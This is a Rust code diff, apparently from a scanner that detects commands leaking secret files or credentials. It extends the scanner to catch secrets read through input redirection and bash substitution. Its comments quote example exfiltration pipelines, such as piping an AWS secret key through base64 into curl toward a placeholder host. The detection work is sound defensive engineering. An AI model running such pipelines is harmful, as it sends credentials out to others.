@@ -1013,6 +1013,15 @@ fn sends_credential(args: &[String]) -> bool {
     })
 }
 
+/// The kind of secret file a command reads on its standard input (`base64 < .env`), if it
+/// does.
+fn secret_input(cmd: &Command, scan: &Scan<'_>) -> Option<&'static str> {
+    cmd.redirects
+        .iter()
+        .filter(|r| r.op == RedirectOp::Read && r.fd.is_none_or(|fd| fd == 0))
+        .find_map(|r| secret_file(&r.target, scan))
+}
+
 /// A file sent to `host`: a key file or a secrets file leaving, when it is one.
 pub(super) fn file_leaves(scan: &mut Scan<'_>, file: &str, host: &str) {
     match secret_file(file, scan) {
@@ -1926,8 +1935,12 @@ pub(super) fn pipelines(scan: &mut Scan<'_>) {
             && cmd.assignments.is_empty();
         // A program that prints what it reads, given a secret file: its contents flow down
         // the pipe (`grep . .env`, `jq . creds.json`, `sort .env`, `gzip -c .env`).
-        let reads_secret = catalogue::is(program, Class::Prints)
-            && cmd.args().iter().any(|a| secret_file(a, scan).is_some());
+        // So does what it reads from a secret file on its input (`base64 -w0 < .env`), and
+        // bash's `$(< .env)`, a substitution that is only that.
+        let input = secret_input(cmd, scan);
+        let reads_secret = (catalogue::is(program, Class::Prints)
+            && (cmd.args().iter().any(|a| secret_file(a, scan).is_some()) || input.is_some()))
+            || (cmd.words.is_empty() && cmd.via == Via::Substitution && input.is_some());
         // `echo $AWS_SECRET_ACCESS_KEY | base64 | curl -d @- HOST`: the secret flows down;
         // so does `printenv GITHUB_TOKEN`'s, the variable it is given printed.
         let printed = match program {
@@ -1976,10 +1989,11 @@ pub(super) fn pipelines(scan: &mut Scan<'_>) {
                 .parent(cmd)
                 .is_some_and(|holder| is_way_out(holder) || is_service_cli(holder));
             if leaves || into_way_out {
-                let keys = cmd
-                    .args()
-                    .iter()
-                    .any(|a| secret_file(a, scan) == Some("keys"));
+                let keys = input == Some("keys")
+                    || cmd
+                        .args()
+                        .iter()
+                        .any(|a| secret_file(a, scan) == Some("keys"));
                 found.push((
                     index,
                     if keys {
